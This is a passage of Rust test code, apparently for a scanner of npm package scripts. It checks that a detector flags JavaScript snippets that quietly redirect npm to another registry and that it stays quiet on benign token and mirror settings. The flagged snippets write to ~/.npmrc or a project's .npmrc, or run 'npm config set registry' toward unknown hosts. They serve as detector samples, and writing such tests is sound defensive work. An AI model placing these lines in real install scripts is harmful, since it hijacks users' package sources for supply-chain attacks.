        for source in [
            "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.npmrc', '\\nregistry=http://npm-mirror-fast.xyz/\\n');",
            "require('child_process').execSync('npm config set registry http://203.0.113.9:4873/');",
            "const fs = require('fs'), path = require('path');\nconst rc = path.join(process.env.INIT_CWD, '.npmrc');\nconst line = 'registry=https://packages.example-cdn.dev/';\nfs.writeFileSync(rc, line);",
        ] {
            let findings = run(source);
            assert_eq!(worst(&findings), Some(Severity::Critical), "{source}: {findings:#?}");
            assert!(findings[0].message.contains("another registry"), "{}", findings[0].message);
        }
        // A token for the public registry, a scoped private registry, a known mirror: quiet.
        for source in [
            "const fs = require('fs');\nfs.writeFileSync('.npmrc', '//registry.npmjs.org/:_authToken=' + process.env.NPM_TOKEN);",
            "const fs = require('fs');\nfs.writeFileSync('.npmrc', '@acme:registry=https://npm.acme.internal/');",
            "require('child_process').execSync('npm config set registry https://registry.npmmirror.com');",
        ] {
            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
        }
    }
}
